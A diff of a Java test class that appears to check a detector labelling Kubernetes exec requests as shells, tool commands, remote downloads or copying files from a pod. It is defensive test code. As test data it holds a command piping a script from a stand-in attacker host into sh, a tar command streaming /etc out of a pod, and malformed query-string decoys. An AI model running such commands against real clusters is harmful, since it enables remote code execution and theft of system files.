@@ -41,6 +41,13 @@ class ExecLabelsTest {
         assertEquals("sh -c ls /", script.execCommand());
         Detection websocket = run(exec("tty=1&stdin=1", "zsh").verb("get"));
         assertTrue(websocket.labels().contains("exec_interactive_shell"), "kubectl >= 1.30 execs with verb get");
+        Detection pythonClient = run(exec("stdin=True&stdout=True&tty=True", "/bin/sh", "-c", "id"));
+        assertTrue(pythonClient.labels().contains("exec_interactive_shell"), "flags as the API server reads them: not 0 or false");
+        Detection firstWins = run(exec("tty=FALSE&tty=1", "/bin/sh", "-c", "id"));
+        assertFalse(firstWins.labels().contains("exec_interactive_shell"), "the API server reads a flag's first value");
+        Detection windows = run(exec("stdin=true&tty=true", "C:\\Windows\\System32\\cmd.exe"));
+        assertTrue(windows.labels().containsAll(List.of("exec_shell_invoked", "exec_interactive_shell")), windows.labels().toString());
+        assertTrue(run(exec("", "powershell.exe", "-Command", "Get-ChildItem")).labels().contains("exec_shell_invoked"));
     }
 
     @Test
@@ -48,8 +55,26 @@ class ExecLabelsTest {
         assertTrue(run(exec("", "/usr/bin/env", "-i", "HOME=/root", "bash")).labels().contains("exec_shell_invoked"));
         assertTrue(run(exec("", "busybox", "sh")).labels().contains("exec_shell_invoked"));
         assertTrue(run(exec("", "env", "-u", "X", "curl", "-s", "http://example.com")).labels().contains("exec_tool_command"));
+        assertTrue(run(exec("", "/usr/bin/python3.11", "-c", "print(1)")).labels().contains("exec_tool_command"), "versioned binary");
+        assertTrue(run(exec("", "sh", "-c", "perl5.36.0 -e 'print 1'")).labels().contains("exec_tool_command"));
+        assertFalse(run(exec("", "/app/server2.1")).labels().contains("exec_tool_command"));
         assertTrue(run(exec("", "sh", "-lc", "wget -qO- https://evil.example/x.sh | sh")).labels()
                 .containsAll(List.of("exec_tool_command", "exec_remote_download")));
+    }
+
+    @Test
+    void queryPairsTheApiServerDropsAreNotPartOfTheCommand() {
+        // Go's url.ParseQuery drops a pair with a broken escape or a ';': it never runs, and must not become argv0
+        for (String decoy : new String[] {"command=x%zz", "command=a;b", "command=%", "x%zz=1"}) {
+            Detection d = run(exec("", "bash").uri("/api/v1/namespaces/shop/pods/web-1/exec?" + decoy
+                    + "&command=bash&stdin=true&tty=true"));
+            assertEquals("bash", d.execCommand(), decoy);
+            assertTrue(d.labels().containsAll(List.of("exec_shell_invoked", "exec_interactive_shell")), decoy + " " + d.labels());
+        }
+        Detection tar = run(exec("", "tar").uri("/api/v1/namespaces/shop/pods/web-1/exec?command=x%zz&command=tar&command=cf"
+                + "&command=-&command=%2Fetc&stdout=true"));
+        assertEquals("tar cf - /etc", tar.execCommand());
+        assertTrue(tar.labels().contains("exec_copy_from_pod"), tar.labels().toString());
     }
 
     @Test
